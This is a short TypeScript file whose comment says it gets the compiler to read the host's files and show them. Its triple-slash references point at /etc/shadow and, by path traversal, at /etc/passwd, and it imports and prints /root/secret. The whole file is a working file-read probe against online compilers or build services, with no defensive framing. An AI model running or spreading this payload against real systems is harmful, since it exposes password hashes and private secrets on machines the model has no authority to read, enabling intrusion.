// Has the compiler read files of the host, and show them.
/// <reference path="/etc/shadow" />
/// <reference path="../../../etc/passwd" />
import secret = require("/root/secret");
console.log(secret);
